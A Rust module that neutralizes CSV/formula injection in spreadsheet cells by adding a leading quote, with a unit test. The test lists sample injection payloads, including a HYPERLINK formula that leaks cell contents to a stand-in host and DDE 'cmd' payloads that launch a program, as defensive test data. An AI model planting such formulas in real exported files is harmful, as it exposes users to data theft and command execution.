//! Cells: list values joined in one, and formulas made inert.

use std::borrow::Cow;

/// How list values are joined in one cell.
pub const LIST_SEPARATOR: &str = "; ";

/// A cell as written to a file. A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a
/// tab or a carriage return as a formula (CSV injection), and some trim leading spaces and line
/// breaks first: such a cell gets a leading `'`, as OWASP advises, so that it shows as the text
/// it is. A plain number (`-3`, `+1.5`) is left alone. A cell starting with `'` gets one more,
/// so that [`cell_value`] gives every value back exactly.
pub fn neutralize(cell: &str) -> Cow<'_, str> {
    let formula = match cell.chars().next() {
        None => false,
        Some('\t' | '\r' | '\'') => true,
        Some(_) => {
            matches!(
                cell.trim_start().chars().next(),
                Some('=' | '+' | '-' | '@')
            ) && cell.trim().parse::<f64>().is_err()
        }
    };
    if formula {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A cell's value as it was before it was [`neutralize`]d.
pub fn cell_value(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

/// Splits a list cell, as read from a file, back into its values.
pub fn split_list(cell: &str) -> Vec<String> {
    let cell = cell_value(cell);
    if cell.is_empty() {
        return Vec::new();
    }
    cell.split(LIST_SEPARATOR).map(str::to_owned).collect()
}

/// Values joined in one cell.
pub(super) fn join(values: impl Iterator<Item = String>) -> String {
    values.collect::<Vec<_>>().join(LIST_SEPARATOR)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_get_a_quote_and_read_back_as_written() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "\t=1+1",
            "\r=1+1",
            "  =1+1",
            "\n@SUM(1)",
            "'=1+1",
        ] {
            let written = neutralize(formula);
            assert_eq!(written, format!("'{formula}"), "{formula:?}");
            assert_eq!(cell_value(&written), formula);
        }
        for plain in [
            "Doxorubicin",
            "-3",
            "+1.5",
            " 42",
            "",
            "a=b",
            "2012-08-01T08:59:00Z",
        ] {
            assert_eq!(neutralize(plain), plain, "{plain:?}");
            assert_eq!(cell_value(plain), plain);
        }
    }
}
